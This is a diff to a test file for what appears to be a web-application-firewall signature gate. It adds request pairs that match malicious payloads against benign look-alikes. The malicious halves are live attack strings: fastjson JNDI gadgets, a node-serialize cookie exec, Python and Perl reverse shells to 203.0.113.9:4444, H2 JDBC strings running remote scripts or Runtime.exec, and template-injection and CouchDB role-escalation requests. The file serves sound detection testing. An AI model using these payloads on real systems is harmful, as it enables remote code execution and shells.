@@ -9,7 +9,7 @@
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
 import type { RequestSpec } from './fixtures.js';
-import { JSON_HEADERS, bundledGate, form, header, hitsOf, json, q, xml } from './bundled-requests.js';
+import { JSON_HEADERS, XML_HEADERS, bundledGate, form, header, hitsOf, json, q, xml } from './bundled-requests.js';
 
 let gate: CompiledSignatureGate;
 beforeAll(async () => {
@@ -58,6 +58,16 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001327, 'a Commons Text script lookup', q('q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime().exec(%27id%27)%7D'), q('tpl=%24%7Bscript.name%7D+and+%24%7Burl%7D')],
   [9001328, 'a Twig filter callback to system', json('{"name":"{{[\'id\']|filter(\'system\')}}"}'), json('{"name":"{{ items|filter(v => v.active) }}"}')],
   [9001328, 'an ERB tag with backticks', form('tpl=%3C%25%3D+%60id%60+%25%3E'), form('tpl=%3C%25%3D+user.name+%25%3E')],
+  [9001015, 'a fastjson @type key spelled with \\x escapes', json('{"@\\x74ype":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.test:1389/E","autoCommit":true}'), json('{"@context":"https://schema.org","@type":"Person","name":"Ann","url":"https://example.com"}')],
+  [9001015, 'a fastjson type in JVM descriptor form', json('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"rmi://x.test/E"}'), json('{"@type":"Offer","price":"10;","note":"L.a;"}')],
+  [9001015, 'an @type object with a JNDI URL in a nested property', json('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"ldap://x.test:389/E"}}'), json('{"directory":{"type":"ldap","url":"ldap://ldap.example.com:389/dc=example,dc=com"},"@type":"Settings"}')],
+  [9001016, 'a node-serialize function in a URL-encoded JSON cookie', header('Cookie', 'lang=en; profile=%7B%22rce%22%3A%22_%24%24ND_FUNC%24%24_function()%7Brequire(%27child_process%27).exec(%27id%27)%7D()%22%7D'), header('Cookie', 'lang=en; prefs=%7B%22theme%22%3A%22dark%22%2C%22fn%22%3A%22ND_FUNC%22%7D')],
+  [9001250, 'a letter percent-encoded twice in the path', { method: 'POST', url: '/%2577ebui_wsma_HTTP', headers: XML_HEADERS, body: '<a/>' }, { url: '/share/https%253A%252F%252Fexample.com%252Fa%2520b?next=%2541' }],
+  [9000319, 'a Python socket reverse shell in a JSON value', json('{"entrypoint":"python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect((\\"203.0.113.9\\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\\"/bin/sh\\",\\"-i\\"])\'"}'), json('{"body":"s = socket.socket()\\ns.connect((\\"localhost\\", 8080))\\ns.sendall(b\\"ping\\")"}')],
+  [9000319, 'a Perl Socket reverse shell in a query', q('c=perl+-e+%27use+Socket%3B%24i%3D%22203.0.113.9%22%3Bsocket(S%2CPF_INET%2CSOCK_STREAM%2C6)%3Bif(connect(S%2Csockaddr_in(4444%2Cinet_aton(%24i))))%7Bexec(%22%2Fbin%2Fsh+-i%22)%3B%7D%27'), q('q=perl+use+Socket+connect+example')],
+  [9001329, 'an H2 URL running a remote script', form('driver=org.h2.Driver&url=jdbc%3Ah2%3Amem%3A%3BINIT%3DRUNSCRIPT+FROM+%27http%3A%2F%2Fx.test%2Fa.sql%27&user=sa'), form('driver=org.h2.Driver&url=jdbc%3Ah2%3Amem%3Atest%3BINIT%3DRUNSCRIPT+FROM+%27classpath%3Aschema.sql%27&user=sa')],
+  [9001329, 'an H2 alias with Java source starting a process', json('{"details":{"db":"file:/tmp/x;INIT=CREATE ALIAS E AS \'String e(String c) throws java.io.IOException {Runtime.getRuntime().exec(c);return c;}\'\\\\;CALL E(\'id\')"}}'), json('{"sql":"CREATE ALIAS MY_SUM FOR \\"com.example.Functions.sum\\""}')],
+  [9001329, 'an H2 trigger with a JavaScript body', json('{"db":"zip:/app/x.jar!/s.db;TRACE_LEVEL_SYSTEM_OUT=1\\\\;CREATE TRIGGER T BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\\njava.lang.Runtime.getRuntime().exec(\'id\')\\n$$--=x"}'), json('{"sql":"CREATE TRIGGER audit_t AFTER INSERT ON orders FOR EACH ROW CALL \\"com.example.AuditTrigger\\""}')],
   [9001507, 'the TeamCity token path ending in /RPC2', { method: 'POST', url: '/app/rest/users/id:1/tokens/RPC2' }, { method: 'POST', url: '/app/rest/users/id:1/tokens/ci-token' }],
   [9001508, 'a JSON object granting roles twice', { method: 'PUT', url: '/_users/org.couchdb.user:x', headers: JSON_HEADERS, body: '{"type":"user","name":"x","roles":["_admin"],"roles":[],"password":"p"}' }, { method: 'PUT', url: '/db/_security', headers: JSON_HEADERS, body: '{"admins":{"names":[],"roles":["ops","dba"]},"members":{"names":[],"roles":["dev"]}}' }],
 ];
